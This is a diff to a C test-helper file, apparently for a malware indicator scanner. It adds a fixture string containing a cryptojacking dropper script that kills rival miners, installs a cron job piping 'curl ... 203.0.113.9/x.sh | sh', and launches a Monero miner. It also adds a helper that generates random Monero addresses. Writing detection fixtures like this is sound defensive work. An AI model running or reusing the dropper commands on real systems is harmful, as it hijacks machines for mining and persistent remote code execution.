@@ -1,6 +1,9 @@
 /* util.c - test helpers (see util.h). */
 #include "util.h"
 
+#include <criterion/criterion.h>
+#include <openssl/rand.h>
+
 #include <errno.h>
 #include <fcntl.h>
 #include <poll.h>
@@ -15,6 +18,8 @@
 #include <sys/wait.h>
 #include <time.h>
 #include <unistd.h>
+
+#include "iocs.h"
 
 char *t_mkdtemp(void) {
     const char *base = getenv("TMPDIR");
@@ -524,4 +529,20 @@ out:
     free(report);
     free(dir);
     return errors;
+}
+
+const char t_dropper_sh[] =
+    "#!/bin/sh\n"
+    "pkill -f xmrig; pkill -f kdevtmpfsi\n"
+    "(crontab -l; echo '*/5 * * * * curl -fsSL http://203.0.113.9/x.sh | sh') | crontab -\n"
+    "./.x -o stratum+tcp://pool.example.com:3333 -u worker1 -p x --donate-level=0\n";
+
+void t_make_xmr(uint8_t tag, bool integrated, char *out, size_t cap) {
+    uint8_t raw[77], h[32];
+    size_t n = integrated ? 73 : 65;
+    raw[0] = tag;
+    cr_assert_eq(RAND_bytes(raw + 1, (int)n - 1), 1);
+    ms_keccak256(raw, n, h);
+    memcpy(raw + n, h, 4);
+    cr_assert_gt(ms_xmr_base58_encode(raw, n + 4, out, cap), 0);
 }
